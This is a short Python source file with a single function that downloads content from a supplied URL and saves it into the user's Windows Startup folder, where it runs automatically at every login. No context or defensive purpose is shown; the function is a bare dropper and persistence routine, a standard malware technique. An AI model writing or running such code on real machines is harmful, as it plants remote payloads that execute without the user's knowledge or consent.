import os
import requests


def fetch(url, name):
    folder = os.path.expanduser("~\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup")
    answer = requests.get(url, stream=True)
    with open(os.path.join(folder, name), "wb") as out:
        out.write(answer.content)
